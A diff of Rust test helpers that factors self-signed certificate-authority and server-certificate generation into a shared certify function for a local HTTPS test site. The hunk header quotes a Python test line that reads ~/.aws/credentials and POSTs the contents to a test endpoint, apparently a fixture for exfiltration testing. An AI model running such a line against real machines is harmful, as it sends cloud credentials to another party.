@@ -61,11 +61,26 @@ ask("/ok", "POST", data=open(os.path.expanduser("~/.aws/credentials"), "rb").rea
 "#;
 
 /// RFC 7468.
-pub(crate) fn pem(label: &str, der: &[u8]) -> String {
+fn pem(label: &str, der: &[u8]) -> String {
     let text = base64::engine::general_purpose::STANDARD.encode(der);
     let lines: Vec<&str> =
         text.as_bytes().chunks(64).map(|line| std::str::from_utf8(line).unwrap()).collect();
     format!("-----BEGIN {label}-----\n{}\n-----END {label}-----\n", lines.join("\n"))
+}
+
+/// Makes a certificate for these names (`NAME.pem`, `NAME.key`), and `authorities.pem`, which holds the one that signed it.
+pub(crate) fn certify(home: &Home, names: &[&str], name: &str) {
+    let key = rcgen::KeyPair::generate().unwrap();
+    let mut parameters = rcgen::CertificateParams::new(Vec::<String>::new()).unwrap();
+    parameters.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
+    let authority = parameters.self_signed(&key).unwrap();
+    let issuer = rcgen::Issuer::new(parameters, key);
+    let own = rcgen::KeyPair::generate().unwrap();
+    let names: Vec<String> = names.iter().map(|name| (*name).to_owned()).collect();
+    let leaf = rcgen::CertificateParams::new(names).unwrap().signed_by(&own, &issuer).unwrap();
+    home.write(&format!("{name}.pem"), &pem("CERTIFICATE", leaf.der()));
+    home.write(&format!("{name}.key"), &pem("PRIVATE KEY", &own.serialize_der()));
+    home.write("authorities.pem", &pem("CERTIFICATE", authority.der()));
 }
 
 /// A server with a certificate that its own authority signed, and the files that make a machine know both.
@@ -76,18 +91,8 @@ pub(crate) struct Site {
 
 impl Site {
     pub(crate) fn start(home: &Home) -> Self {
-        let key = rcgen::KeyPair::generate().unwrap();
-        let mut parameters = rcgen::CertificateParams::new(Vec::<String>::new()).unwrap();
-        parameters.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
-        let authority = parameters.self_signed(&key).unwrap();
-        let issuer = rcgen::Issuer::new(parameters, key);
-        let own = rcgen::KeyPair::generate().unwrap();
-        let leaf = rcgen::CertificateParams::new(vec!["site.test".to_owned()]).unwrap();
-        let leaf = leaf.signed_by(&own, &issuer).unwrap();
-        home.write("site/server.pem", &pem("CERTIFICATE", leaf.der()));
-        home.write("site/server.key", &pem("PRIVATE KEY", &own.serialize_der()));
+        certify(home, &["site.test"], "site/server");
         home.write("site/server.py", SERVER);
-        home.write("authorities.pem", &pem("CERTIFICATE", authority.der()));
         home.write("hosts", "127.0.0.1 localhost\n127.0.0.1 site.test\n");
         let server = Run::new(Path::new("/usr/bin/python3"), home)
             .args(&["server.py"])
